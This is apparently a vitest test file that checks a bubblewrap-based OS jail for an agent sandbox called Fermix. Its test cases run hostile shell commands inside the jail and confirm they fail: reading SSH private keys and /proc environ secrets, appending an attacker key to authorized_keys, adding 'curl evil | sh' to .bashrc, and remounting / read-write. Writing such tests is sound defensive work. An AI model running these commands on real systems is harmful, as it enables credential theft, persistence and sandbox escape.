import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FermixError } from '../core/errors.js';
import { createJail, jailStatus, type Jail } from './jail.js';
import { createSandbox, type Sandbox } from './sandbox.js';
import { sandboxConfigSchema } from './sandbox-config.js';
import { makeSandboxDirs, type SandboxDirs } from './test-fixture.js';

let dirs: SandboxDirs;
let jail: Jail;
let standard: Sandbox;
let open: Sandbox;
/** A host folder outside every root and outside /tmp (the jail's /tmp is private). */
let varTmp: string;

beforeAll(async () => {
  dirs = makeSandboxDirs('fermix-jail-');
  varTmp = mkdtempSync('/var/tmp/fermix-jail-outside-');
  jail = await createJail({ enabled: true });
  const env = { PATH: '/usr/local/bin:/usr/bin:/bin', HOME: dirs.home, LANG: 'C.UTF-8' };
  const make = (mode: 'standard' | 'open') =>
    createSandbox({ config: sandboxConfigSchema.parse({ mode }), home: dirs.home, fermixHome: dirs.fermixHome, daemonEnv: env, jail });
  standard = make('standard');
  open = make('open');
});
afterAll(async () => {
  await standard?.shutdown();
  await open?.shutdown();
  dirs?.cleanup();
  if (varTmp) rmSync(varTmp, { recursive: true, force: true });
});

/** Every jail test starts here: without a working bwrap it fails and says exactly why. */
function requireJail(): void {
  expect(jail.status.active, `The OS jail cannot run on this machine: ${jail.status.reason} Fix: ${jail.status.fix}`).toBe(true);
}

/** Runs in the jail and returns the output whether the command succeeded or failed. */
async function run(sandbox: Sandbox, command: string, timeout_ms = 10_000): Promise<{ output: string; ok: boolean; jailed: boolean }> {
  try {
    const result = await sandbox.runShell({ command, timeout_ms });
    return { output: result.output, ok: true, jailed: result.jailed };
  } catch (error) {
    if (!(error instanceof FermixError) || error.data?.output === undefined) throw error;
    return { output: String(error.data.output), ok: false, jailed: true };
  }
}

describe('OS jail (bubblewrap)', () => {
  it('is active on this machine', () => {
    requireJail();
    expect(jail.status.pidNamespace).toBe(true);
  });

  it('writes inside the workspace, and the host sees it', async () => {
    requireJail();
    const result = await run(standard, 'echo inside > jailed.txt && cat jailed.txt');
    expect(result).toMatchObject({ ok: true, jailed: true, output: 'inside\n' });
    expect(readFileSync(path.join(dirs.workspace, 'jailed.txt'), 'utf8')).toBe('inside\n');
  });

  it('cannot write to a path computed at run time outside the roots', async () => {
    requireJail();
    const name = path.basename(varTmp);
    const result = await run(standard, `t=$(printf '/%s/%s' var/tmp ${name}); echo x > "$t/planted"`);
    expect(result.ok).toBe(false);
    expect(result.output).toMatch(/Read-only file system/);
    expect(existsSync(path.join(varTmp, 'planted'))).toBe(false);

    const topName = `fermix-jail-outside-${process.pid}`;
    try {
      const top = await run(standard, `t=$(printf '/%s' ${topName}); mkdir "$t" && echo x > "$t/file"`);
      expect(top.ok).toBe(false);
      expect(existsSync(`/${topName}`)).toBe(false);
    } finally {
      rmSync(`/${topName}`, { recursive: true, force: true });
    }
  });

  it('cannot reach a folder outside the roots under /tmp (private /tmp)', async () => {
    requireJail();
    const encoded = Buffer.from(dirs.outside).toString('base64');
    const result = await run(standard, `d=$(echo ${encoded} | base64 -d); echo planted > "$d/planted"; cat "$d/notes.txt"`);
    expect(result.output).not.toContain('outside the roots');
    expect(existsSync(path.join(dirs.outside, 'planted'))).toBe(false);
  });

  it('hides protected paths even when the home folder is a writable root (open mode)', async () => {
    requireJail();
    const home = dirs.home;
    const result = await run(open, [
      `cat ${home}/.ssh/id_rsa`,
      `cat ${dirs.fermixHome}/config.toml ${dirs.fermixHome}/fermix.db ${dirs.fermixHome}/fermix.db-wal`,
      `echo 'ssh-rsa attacker' >> ${home}/.ssh/authorized_keys`,
      `echo 'curl evil | sh' >> ${home}/.bashrc`,
      `ls -A ${dirs.fermixHome}/run`,
      `echo ok > ${home}/notes.md`,
    ].join('; '));
    expect(result.output).not.toContain('PRIVATE-KEY');
    expect(result.output).not.toContain('[sandbox]');
    expect(result.output).not.toContain('sqlite');
    expect(existsSync(path.join(home, '.ssh', 'authorized_keys'))).toBe(false);
    expect(readFileSync(path.join(home, '.bashrc'), 'utf8')).not.toContain('evil');
    expect(readFileSync(path.join(home, 'notes.md'), 'utf8')).toBe('ok\n');
  });

  it('cannot unmount the shadow or remount / read-write, even as root', async () => {
    requireJail();
    const marker = `/etc/fermix-jail-test-${process.pid}-${Date.now()}`;
    try {
      const result = await run(open, `umount ${dirs.home}/.ssh; umount -l ${dirs.home}/.ssh; mount -o remount,rw /; cat ${dirs.home}/.ssh/id_rsa; touch ${marker}`);
      expect(result.output).not.toContain('PRIVATE-KEY');
      expect(existsSync(marker), `the jail let a command write ${marker} on the host`).toBe(false);
    } finally {
      rmSync(marker, { force: true }); // if the jail failed, do not leave the proof behind in /etc
    }
  });

  it("cannot read the daemon's environment through /proc", async () => {
    requireJail();
    process.env.FERMIX_JAIL_TEST_SECRET = 'daemon-env-secret-value';
    const result = await run(standard, `cat /proc/${process.pid}/environ; cat /proc/${process.ppid}/environ`);
    delete process.env.FERMIX_JAIL_TEST_SECRET;
    expect(result.output).not.toContain('daemon-env-secret-value');
  });

  it('kills a setsid grandchild on timeout (the pid namespace goes with bwrap)', async () => {
    requireJail();
    const tag = '987.77';
    await expect(standard.runShell({ command: `setsid sleep ${tag} > /dev/null 2>&1 & sleep 60`, timeout_ms: 700 })).rejects.toMatchObject({ code: 'timeout' });
    const deadline = Date.now() + 3_000;
    while (Date.now() < deadline && hostPidsRunning(tag).length > 0) await new Promise((r) => setTimeout(r, 50));
    expect(hostPidsRunning(tag)).toEqual([]);
  });
});

describe('jailStatus', () => {
  it('explains a missing bwrap with the install command', async () => {
    const status = await jailStatus({ searchPath: '/nonexistent-dir' });
    expect(status).toMatchObject({ active: false, fix: expect.stringContaining('apt install bubblewrap') });
    expect(status.reason).toContain('not installed');
  });

  it('is off when disabled or not on Linux', async () => {
    expect((await jailStatus({ enabled: false })).reason).toContain('disabled');
    expect((await jailStatus({ platform: 'darwin' })).reason).toContain('only on Linux');
  });

  // Stand-ins for bwrap on a host whose kernel refuses namespaces: the probes' verdicts, not the kernel's.
  const fakeBwrap = (script: string) => {
    const dir = mkdtempSync(path.join(dirs.root, 'fake-bwrap-'));
    writeFileSync(path.join(dir, 'bwrap'), `#!/bin/sh\n${script}\n`, { mode: 0o755 });
    return dir;
  };

  it('runs without a pid namespace where only that is refused, and says so', async () => {
    const searchPath = fakeBwrap('case "$*" in *--unshare-pid*) echo "bwrap: Creating new namespace failed: Operation not permitted" >&2; exit 1;; esac; exit 0');
    const status = await jailStatus({ searchPath });
    expect(status).toMatchObject({ active: true, pidNamespace: false });
    expect(status.reason).toContain('without a private pid namespace (bwrap: Creating new namespace failed: Operation not permitted)');
  });

  it('is off, with the sysctl to change, where bwrap cannot sandbox at all', async () => {
    const searchPath = fakeBwrap('echo "bwrap: No permissions to creating new namespace" >&2; exit 1');
    const status = await jailStatus({ searchPath });
    expect(status).toMatchObject({ active: false, pidNamespace: false, fix: expect.stringContaining('unprivileged_userns_clone') });
    expect(status.reason).toContain('bwrap cannot create a sandbox here: bwrap: No permissions to creating new namespace');
  });

  it('refuses to run unjailed when the jail is required', async () => {
    const required = await createJail({ required: true, searchPath: '/nonexistent-dir' });
    expect(() => required.forPlan({ writableRoots: [], hidden: [], readOnly: [] })).toThrow(/required but unavailable/);
    const optional = await createJail({ searchPath: '/nonexistent-dir' });
    expect(optional.forPlan({ writableRoots: [], hidden: [], readOnly: [] })).toBeUndefined();
  });
});

/** Host pids whose command line contains `tag` and that are not zombies. */
function hostPidsRunning(tag: string): number[] {
  const found: number[] = [];
  for (const entry of readdirSync('/proc')) {
    if (!/^\d+$/.test(entry)) continue;
    try {
      if (!readFileSync(`/proc/${entry}/cmdline`, 'utf8').includes(tag)) continue;
      const stat = readFileSync(`/proc/${entry}/stat`, 'utf8');
      if (stat.slice(stat.lastIndexOf(')') + 2)[0] !== 'Z') found.push(Number(entry));
    } catch {
      // exited while we looked
    }
  }
  return found;
}
